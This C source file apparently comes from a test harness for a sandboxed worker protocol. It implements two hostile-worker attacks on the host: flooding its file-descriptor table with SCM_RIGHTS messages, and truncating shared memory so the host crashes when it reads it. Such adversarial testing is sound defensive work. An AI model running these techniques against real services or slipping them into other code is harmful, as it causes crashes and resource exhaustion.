/* What goes to the host beside the packets, and what the host has given. */
#include "attack.h"
#include "worker_wire.h"
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

enum { CHANNEL = 3, MOST_AT_A_TIME = 253 };

/* Descriptors fill the table of whoever takes them. The aim is the number of the call. */
static void send_descriptors(attempt *it) {
  union {
    struct cmsghdr aligned;
    char bytes[CMSG_SPACE(MOST_AT_A_TIME * sizeof(int))];
  } control;
  wire_header header = {.type = WIRE_CREDIT};
  struct iovec piece = {&header, sizeof header};
  struct msghdr message = {
    .msg_iov = &piece, .msg_iovlen = 1, .msg_control = control.bytes, .msg_controllen = sizeof control.bytes};
  struct cmsghdr *rights = CMSG_FIRSTHDR(&message);
  rights->cmsg_level = SOL_SOCKET;
  rights->cmsg_type = SCM_RIGHTS;
  rights->cmsg_len = CMSG_LEN(MOST_AT_A_TIME * sizeof(int));
  memset(CMSG_DATA(rights), 0, MOST_AT_A_TIME * sizeof(int)); /* its standard input, over and over */
  for (int packet = 0; packet < 4; packet++)
    if (sendmsg(CHANNEL, &message, MSG_NOSIGNAL) < 0) return refused(it, "sendmsg");
  succeeded(it, "sent");
}

/* Asks for memory past the worker's own code, which may read the answer first; some are enough for one. */
static int take_memory(const char *call) {
  for (uint64_t number = 1; number <= WIRE_MEMORIES_MAX; number++) {
    wire_header header = {.type = WIRE_MEMORY_WANTED, .call = strtoull(call, NULL, 10),
      .request = (UINT64_C(1) << 40) + number, .kind = WIRE_COMPLETE, .count = 1 << 20};
    if (send(CHANNEL, &header, sizeof header, MSG_NOSIGNAL) < 0) return -1;
    union {
      struct cmsghdr aligned;
      char bytes[CMSG_SPACE(sizeof(int))];
    } control;
    struct iovec piece = {&header, sizeof header};
    struct msghdr message = {
      .msg_iov = &piece, .msg_iovlen = 1, .msg_control = control.bytes, .msg_controllen = sizeof control.bytes};
    if (recvmsg(CHANNEL, &message, 0) < 0) return -1;
    struct cmsghdr *rights = CMSG_FIRSTHDR(&message);
    if (rights == NULL || rights->cmsg_type != SCM_RIGHTS) continue;
    int memory;
    memcpy(&memory, CMSG_DATA(rights), sizeof memory);
    return memory;
  }
  errno = EAGAIN;
  return -1;
}

/* Whoever reads memory that has become shorter dies of it. */
static void shrink_memory(attempt *it) {
  int memory = take_memory(it->aim);
  if (memory < 0) return refused(it, "no memory");
  outcome(it, ftruncate(memory, 0), "the host's memory is shorter");
  close(memory);
}

const attack channel_attacks[] = {
  {"descriptor-flood", send_descriptors}, {"shrink-memory", shrink_memory}, {NULL, NULL}};
